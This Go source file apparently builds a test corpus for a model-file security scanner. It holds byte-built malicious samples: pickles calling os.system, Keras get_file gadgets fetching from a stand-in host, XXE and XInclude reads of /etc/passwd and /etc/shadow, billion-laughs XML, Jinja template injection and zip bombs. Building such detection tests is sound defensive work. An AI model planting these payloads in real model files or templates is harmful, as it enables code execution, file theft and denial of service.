package corpus

import (
	"strings"

	"github.com/mlsec/mlsec/internal/benchzip"
	pa "github.com/mlsec/mlsec/internal/pickleasm"
)

// issue12Samples are the misses and false-alarm shapes of issue 12 (and the
// archive and nesting shapes of issue 9, R2 to R4), byte-built.
func issue12Samples() []Sample {
	const call0 = "cposix\nsystem\n(S'echo hi'\ntR"
	body := pa.New(-1).Global("os", "system").Mark().BinUnicode("echo hi").Tuple().Reduce().Stop().Bytes()
	getFileClass := kerasLayer("keras.utils", "get_file", obj{"origin": "https://example.invalid/x", "fname": "/tmp/x"})
	unsafeClass := kerasLayer("keras.config", "enable_unsafe_deserialization", obj{})
	initGadget := kerasLayer("keras.layers", "Dense", obj{"name": "dense", "units": 2,
		"kernel_initializer": kerasLayer("keras.src.utils.file_utils", "get_file", obj{"origin": "https://example.invalid/x"})})
	tfKeras := kerasLayer("tensorflow.keras.utils", "get_file", obj{"origin": "https://example.invalid/x"})
	lookup := kerasLayer("keras.layers", "StringLookup", obj{"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1})
	vectorize := kerasLayer("keras.layers", "TextVectorization", obj{"name": "tv", "vocabulary": "https://example.invalid/vocab.txt"})
	laughs := `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a0 "lol">`
	for i := 1; i <= 9; i++ {
		d := string(rune('0' + i))
		laughs += `<!ENTITY a` + d + ` "` + strings.Repeat("&a"+string(rune('0'+i-1))+";", 10) + `">`
	}
	laughs += `]><PMML version="4.4"><Header description="&a9;"/></PMML>`
	deep := pa.New(2)
	for i := 0; i < 5000; i++ {
		deep.EmptyList()
	}
	for i := 0; i < 4999; i++ {
		deep.AppendOp()
	}
	mlp := onnxModel([]pb{onnxNode("Relu", "", "relu")}, nil)
	rebuildFromType := pa.New(4).StackGlobal("torch._tensor", "_rebuild_from_type_v2").Mark().
		StackGlobal("torchvision.datasets.utils", "download_url").StackGlobal("torch", "Tensor").
		Unicode("https://example.invalid/x").Unicode("/tmp").Tuple2().EmptyDict().Tuple().Reduce().Stop().Bytes()
	reconstructorBase := pa.New(2).Global("copyreg", "_reconstructor").Global("mypkg.models", "Net").
		Global("os", "system").Unicode("echo hi").Tuple3().Reduce().Stop().Bytes()
	partialCalled := pa.New(2).Global("functools", "partial").Global("os", "system").Unicode("echo hi").Tuple2().Reduce().
		EmptyTuple().Reduce().Stop().Bytes()
	return []Sample{
		mal("issue12/p0_break_garbage.bin", "12", "protocol-0 call, then garbage instead of STOP (nullifAI on protocol 0)", "issue 12; nullifAI",
			[]byte(call0+"garbage\x00\xff\xfe"), "PKL001"),
		mal("issue12/p0_break_no_stop.txt", "12", "protocol-0 call with no STOP, in a file named .txt", "issue 12; nullifAI",
			[]byte(call0), "PKL001"),
		mal("issue12/p0_break_truncated_string.dat", "12", "protocol-0 call followed by a truncated STRING", "issue 12; nullifAI",
			[]byte(call0+"S'unterminat"), "PKL001"),
		mal("issue12/proto6_header.pkl", "12", "PROTO 6 (unsupported) in front of a pickle body", "issue 12",
			append([]byte{0x80, 6}, body...), "PKL014", "PKL001"),
		mal("issue12/proto1_header.dat", "12", "PROTO 1 header (no 2-5 magic) in front of a call", "issue 12",
			append([]byte{0x80, 1}, body...), "PKL001"),
		mal("issue12/reconstructor_base.pkl", "12", "copyreg._reconstructor whose base (called with the state) is os.system", "issue 11",
			reconstructorBase, "PKL001"),
		mal("issue12/rebuild_from_type_download.pkl", "12", "_rebuild_from_type_v2 calling a torchvision download helper", "issue 12",
			rebuildFromType, "PKL004"),
		mal("issue12/partial_called.pkl", "12", "functools.partial(os.system, cmd) called at load", "issue 12",
			partialCalled, "PKL001", "PKL004"),
		mal("issue12/package_main.pkl", "12", "import of a package's __main__ (runs its command line)", "issue 12",
			pa.New(4).StackGlobal("ensurepip.__main__", "_main").Stop().Bytes(), "PKL002"),
		mal("issue12/deep_nesting.pkl", "12", "list nested 5,000 deep (past pickle.dumps' recursion limit)", "issue 9 R4",
			deep.Stop().Bytes(), "PKL015"),
		mal("issue12/keras_get_file_class.keras", "12", "class-form keras.utils.get_file (module allowlisted, name not)", "issue 12; CVE-2025-8747",
			kerasZip(functional(inputLayer(), getFileClass, dense("dense"))), "KERAS004"),
		mal("issue12/keras_unsafe_class.keras", "12", "class-form keras.config.enable_unsafe_deserialization", "issue 12; CVE-2025-9906",
			kerasZip(functional(inputLayer(), unsafeClass, dense("dense"))), "KERAS005"),
		mal("issue12/keras_initializer_gadget/config.json", "12", "get_file nested as a Dense layer's kernel_initializer (keras.src spelling)", "issue 12",
			mustJSON(functional(inputLayer(), initGadget)), "KERAS004"),
		mal("issue12/keras_tf_keras.keras", "12", "class-form get_file in the tensorflow.keras spelling", "issue 12",
			kerasZip(functional(inputLayer(), tfKeras, dense("dense"))), "KERAS004"),
		mal("issue12/keras_stringlookup_path.keras", "12", "StringLookup reading its vocabulary from /etc/passwd at load", "CVE-2025-12058",
			kerasZip(functional(inputLayer(), lookup, dense("dense"))), "KERAS007"),
		mal("issue12/keras_textvectorization_url/config.json", "12", "TextVectorization with a URL vocabulary", "CVE-2025-12058",
			mustJSON(functional(inputLayer(), vectorize, dense("dense"))), "KERAS007"),
		mal("issue12/pmml_xxe.pmml", "12", "PMML with an external entity reading /etc/passwd", "issue 12; XXE",
			[]byte(`<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&xxe;"/></PMML>`), "XML001"),
		mal("issue12/pmml_parameter_entity.pmml", "12", "PMML with an out-of-band parameter entity", "issue 12; XXE",
			[]byte(`<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % oob SYSTEM "https://example.invalid/x.dtd"> %oob;]><PMML version="4.4"/>`), "XML001"),
		mal("issue12/pmml_xinclude.pmml", "12", "PMML with an XInclude of /etc/shadow", "issue 12",
			[]byte(`<?xml version="1.0"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude" version="4.4"><xi:include href="/etc/shadow" parse="text"/></PMML>`), "XML002"),
		mal("issue12/pmml_billion_laughs.pmml", "12", "PMML billion laughs (ten levels of ten entities)", "issue 12",
			[]byte(laughs), "XML003"),
		mal("issue12/openvino_external_dtd/model.xml", "12", "OpenVINO IR naming an external DTD", "issue 12; XXE",
			[]byte(`<?xml version="1.0"?><!DOCTYPE net SYSTEM "https://example.invalid/ir.dtd"><net name="m" version="11"><layers/><edges/></net>`), "XML001"),
		mal("issue12/chat_template_map/tokenizer_config.json", "12", "SSTI in a named template of a chat_template map", "issue 12",
			mustJSON(obj{"chat_template": obj{"default": chatMLTemplate, "tool_use": cve34359}}), "TPL001"),
		mal("issue12/chat_template_file/chat_template.jinja", "12", "SSTI in a chat_template.jinja file (text, not JSON)", "issue 12",
			[]byte("You are a helpful assistant.\n"+cve34359), "TPL001"),
		mal("issue12/processor_template/processor_config.json", "12", "SSTI in a processor's chat_template", "issue 12",
			mustJSON(obj{"processor_class": "LlavaProcessor", "chat_template": cve34359}), "TPL001"),
		mal("issue12/broken_template_escape/tokenizer_config.json", "12", "an unparsable template that still reaches __class__", "issue 12",
			tokenizerConfig(`{{ ''.__class__.__mro__[1].__subclasses__() `), "TPL001"),
		mal("issue12/truncated.onnx", "12", "ONNX model cut in the middle", "issue 12",
			mlp[:len(mlp)/2], "FMT001", "FMT003"),
		mal("issue12/disguised.pt", "12", "a .pt whose content is in no model format", "issue 12",
			[]byte("\x00\x01\x02\x03 this is not a checkpoint \xfe\xff"), "FMT003"),
		mal("issue12/zeros_data_pkl.zip", "12", "a member named data.pkl that is 32 MiB of zeros (about 200:1)", "issue 9 R3",
			benchzip.ZerosMember("data.pkl", 32, true), "FMT003"),
		mal("issue12/bomb42_small.zip", "12", "42.zip-style nested bomb, 4 x 4 x 64 MiB of zeros", "issue 9 R2",
			benchzip.Bomb42(4, 64), "ARC003"),
		ben("benign/issue12/torchvision_like.pkl", "12", "torchvision-style full model: classes rebuilt, partial(LayerNorm)",
			pa.New(2).Global("torchvision.models.resnet", "ResNet").EmptyTuple().NewObj().EmptyDict().
				Unicode("norm").Global("functools", "partial").Global("torch.nn.modules.normalization", "LayerNorm").Tuple1().Reduce().
				Mark().Global("torch.nn.modules.normalization", "LayerNorm").EmptyTuple().EmptyDict().None().Tuple().Build().
				SetItem().Build().Stop().Bytes()),
		ben("benign/issue12/namespace_checkpoint.pkl", "12", "training checkpoint holding argparse.Namespace",
			pa.New(2).EmptyDict().Unicode("args").Global("argparse", "Namespace").EmptyTuple().NewObj().EmptyDict().
				Unicode("lr").BinFloat(0.1).SetItem().Build().SetItem().Stop().Bytes()),
		ben("benign/issue12/broken_template/tokenizer_config.json", "12", "a chat template that merely fails to parse (TPL003 note)",
			tokenizerConfig(`{{ messages[0]['content'] `)),
		ben("benign/issue12/model.pmml", "12", "plain PMML regression model",
			[]byte(`<?xml version="1.0" encoding="UTF-8"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary><RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1"/></RegressionModel></PMML>`)),
		ben("benign/issue12/flax_model.msgpack", "12", "Flax msgpack header (recognised, listed as skipped)",
			[]byte("\x81\xa6params\x81\xa5dense\x80")),
	}
}
